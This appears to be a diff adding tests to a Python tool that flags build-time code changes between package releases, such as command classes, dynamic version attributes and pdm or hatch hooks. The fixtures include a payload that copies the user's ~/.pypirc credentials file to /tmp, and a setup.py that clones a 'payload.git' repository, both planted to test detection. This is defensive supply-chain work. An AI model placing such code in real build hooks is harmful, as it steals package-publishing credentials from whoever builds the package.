@@ -746,6 +746,11 @@ def test_build_files_in_an_sdist(tmp_path: Path) -> None:
         ("build", "pyproject.toml", "build requirement added: cython"),
         ("build", "pyproject.toml", "build requirement changed: setuptools>=61 → setuptools>=64"),
         ("build", "setup.cfg", "setuptools configuration changed: [metadata], [options]"),
+        (
+            "build",
+            "setup.cfg",
+            "version read by importing changed: demo.VERSION → demo.__version__",
+        ),
         ("build", "setup.py", "build script changed"),
         ("build", "src/CMakeLists.txt", "CMake build file changed"),
     ]
@@ -888,6 +893,139 @@ def test_build_hooks_named_in_pyproject(tmp_path: Path) -> None:
         ("build", "make_ext.py", "build hook added"),
         ("build", "tools/hook.py", "build hook changed"),
     ]
+
+
+BUILD_PYPROJECT = (
+    '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n'
+    '[project]\nname = "demo"\ndynamic = ["version"]\n'
+)
+PAYLOAD = "import os, shutil\nshutil.copy(os.path.expanduser('~/.pypirc'), '/tmp/.x')\n"
+
+
+def test_a_command_class_pyproject_names_is_code_the_build_imports(tmp_path: Path) -> None:
+    old = {"pyproject.toml": BUILD_PYPROJECT, "demo/__init__.py": "VALUE = 1\n"}
+    cmdclass = '[tool.setuptools.cmdclass]\nbuild_py = "_custom_build.BuildPy"\n'
+    new = {**old, "pyproject.toml": BUILD_PYPROJECT + cmdclass, "_custom_build.py": PAYLOAD}
+    assert find(tmp_path, old, new) == [
+        ("build", "_custom_build.py", "code the build imports added"),
+        (
+            "build",
+            "pyproject.toml",
+            "command class build_py added: _custom_build.BuildPy",
+        ),
+    ]
+
+
+def test_a_module_a_dynamic_attr_reads_is_code_the_build_imports(tmp_path: Path) -> None:
+    by_file = '[tool.setuptools.dynamic]\nversion = {file = "VERSION"}\n'
+    by_attr = '[tool.setuptools.dynamic]\nversion = {attr = "demo._version.get"}\n'
+    old = {"pyproject.toml": BUILD_PYPROJECT + by_file, "VERSION": "1.0\n", "src/demo/x.py": ""}
+    new = {
+        **old,
+        "pyproject.toml": BUILD_PYPROJECT + by_attr,
+        "src/demo/_version.py": PAYLOAD + "get = '1.1'\n",
+    }
+    assert find(tmp_path, old, new) == [
+        (
+            "build",
+            "pyproject.toml",
+            "version read by importing added: demo._version.get",
+        ),
+        ("build", "src/demo/_version.py", "code the build imports added"),
+    ]
+
+
+def test_what_setup_cfg_names_is_code_the_build_imports(tmp_path: Path) -> None:
+    setup_cfg = (
+        "[metadata]\nname = demo\nversion = attr: demo.__version__\n"
+        "[options]\npackage_dir =\n    =lib\n"
+        "cmdclass =\n    build_py = tools.build.BuildPy\n"
+    )
+    old = {
+        "setup.cfg": setup_cfg,
+        "lib/demo/__init__.py": "__version__ = '1.0'\n",
+        "lib/demo/other.py": "a = 1\n",
+        "tools/build.py": "a = 1\n",
+    }
+    new = {
+        **old,
+        "lib/demo/__init__.py": PAYLOAD + "__version__ = '1.1'\n",
+        "lib/demo/other.py": "a = 2\n",
+        "tools/build.py": "a = 2\n",
+    }
+    assert find(tmp_path, old, new) == [
+        ("build", "lib/demo/__init__.py", "code the build imports changed"),
+        ("build", "tools/build.py", "code the build imports changed"),
+    ]
+
+
+def test_a_reference_moved_to_pyproject_and_a_version_tuple_are_no_build_change(
+    tmp_path: Path,
+) -> None:
+    # Django 5.1 moved `version = attr: django.__version__` to pyproject.toml and
+    # bumped VERSION = (5, 0, 8, "final", 0) in the module the build imports (here
+    # demo 1.0 -> 1.1).
+    by_attr = '[tool.setuptools.dynamic]\nversion = {attr = "demo.__version__"}\n'
+    init = 'VERSION = ({0}, "final", 0)\n__version__ = ".".join(map(str, VERSION[:3]))\n'
+    old = {
+        "pyproject.toml": BUILD_PYPROJECT,
+        "setup.cfg": "[metadata]\nname = demo\nversion = attr: demo.__version__\n",
+        "demo/__init__.py": init.format("1, 0"),
+    }
+    new = {
+        "pyproject.toml": BUILD_PYPROJECT + by_attr,
+        "setup.cfg": "[metadata]\nname = demo\n",
+        "demo/__init__.py": init.format("1, 1, 0"),
+    }
+    assert find(tmp_path, old, new) == [
+        ("build", "setup.cfg", "setuptools configuration changed: [metadata]")
+    ]
+
+
+def test_a_hatch_hook_plugin_added_is_told_its_options_are_not(tmp_path: Path) -> None:
+    hooks = "[tool.hatch.metadata.hooks.fancy-pypi-readme]\ncontent-type = '{0}'\n"
+    old = {"pyproject.toml": hooks.format("text/markdown")}
+    new = {"pyproject.toml": hooks.format("text/x-rst")}
+    assert find(tmp_path / "options", old, new) == []
+    vcs = "[tool.hatch.build.targets.wheel.hooks.vcs]\nversion-file = 'demo/_v.py'\n"
+    new = {"pyproject.toml": hooks.format("text/markdown") + vcs}
+    assert find(tmp_path / "plugin", old, new) == [
+        ("build", "pyproject.toml", "hatch wheel build hook vcs added: a plugin")
+    ]
+
+
+def test_a_pdm_custom_hook_is_code_the_build_imports(tmp_path: Path) -> None:
+    pyproject = '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n'
+    hook = '[tool.pdm.build]\ncustom-hook = "./scripts/hook.py"\n'
+    old = {"pyproject.toml": pyproject, "demo/__init__.py": ""}
+    new = {**old, "pyproject.toml": pyproject + hook, "scripts/hook.py": PAYLOAD}
+    assert find(tmp_path, old, new) == [
+        ("build", "pyproject.toml", "pdm custom-hook added: ./scripts/hook.py"),
+        ("build", "scripts/hook.py", "code the build imports added"),
+    ]
+
+
+def test_a_local_module_setup_py_imports_is_code_the_build_imports(tmp_path: Path) -> None:
+    setup = "from setuptools import setup\nfrom _build_helpers import cmdclass\nsetup(cmdclass=cmdclass)\n"
+    old = {"setup.py": setup, "_build_helpers.py": "cmdclass = {}\n", "demo/helpers.py": ""}
+    new = {
+        **old,
+        "_build_helpers.py": PAYLOAD + "cmdclass = {}\n",
+        "demo/helpers.py": "a = 1\n",
+    }
+    assert find(tmp_path, old, new) == [
+        ("build", "_build_helpers.py", "code the build imports changed")
+    ]
+
+
+def test_a_describing_name_setup_py_also_uses_is_what_the_build_does(tmp_path: Path) -> None:
+    setup = (
+        "import subprocess\nfrom setuptools import setup\nURL = '{url}'\n"
+        "subprocess.run(['git', 'clone', URL, 'vendor'])\nsetup(name='demo', url=URL)\n"
+    )
+    old = {"setup.py": setup.format(url="https://example.org/data.git")}
+    new = {"setup.py": setup.format(url="https://example.com/payload.git")}
+    assert find(tmp_path, old, new)[0] == ("build", "setup.py", "build script changed")
 
 
 def test_build_file_changes_of_comments_only_are_not_notable(tmp_path: Path) -> None:
@@ -1786,6 +1924,17 @@ def test_an_sdists_changed_native_sources_are_one_entry(tmp_path: Path) -> None:
     assert find(tmp_path, old, new) == [("binary", None, detail)]
     # A wheel holds what was compiled: its binaries are the entries.
     assert find(tmp_path / "wheel", old, new, "wheel") == []
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["src/tables.inc", "src/fast.S", "src/kernel.cu", "src/demo.i", "src/old.f77", "src/x.zig"],
+)
+def test_native_sources_of_every_language_the_build_compiles(tmp_path: Path, path: str) -> None:
+    old = {"demo/__init__.py": "", path: "1\n"}
+    new = {**old, path: "2\n"}
+    detail = f"native source changed, compiled when installed and not checked: 1 file ({path})"
+    assert find(tmp_path, old, new) == [("binary", None, detail)]
 
 
 def test_many_native_sources_are_counted_past_five(tmp_path: Path) -> None:
